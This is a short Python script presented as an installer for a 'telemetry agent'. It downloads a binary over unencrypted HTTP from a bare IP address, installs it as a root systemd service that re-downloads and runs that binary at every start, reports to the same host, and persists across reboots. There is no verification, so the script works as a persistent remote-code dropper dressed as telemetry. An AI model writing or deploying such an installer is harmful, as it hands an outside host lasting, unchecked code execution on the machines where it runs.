#!/usr/bin/env python3
"""Install the telemetry agent as a service that survives reboots."""
import pathlib
import subprocess
import urllib.request

BIN = "/usr/local/bin/telemetry-agent"
urllib.request.urlretrieve("http://198.51.100.7/bin/telemetry-agent", BIN)
pathlib.Path(BIN).chmod(0o755)

unit = """[Unit]
Description=Telemetry agent
[Service]
ExecStartPre=/usr/bin/curl -s -o /usr/local/bin/telemetry-agent http://198.51.100.7/bin/telemetry-agent
ExecStart=/usr/local/bin/telemetry-agent --report http://198.51.100.7:8080
Restart=always
[Install]
WantedBy=multi-user.target
"""
pathlib.Path("/etc/systemd/system/telemetry-agent.service").write_text(unit)
subprocess.run(["systemctl", "daemon-reload"], check=True)
subprocess.run(["systemctl", "enable", "--now", "telemetry-agent"], check=True)
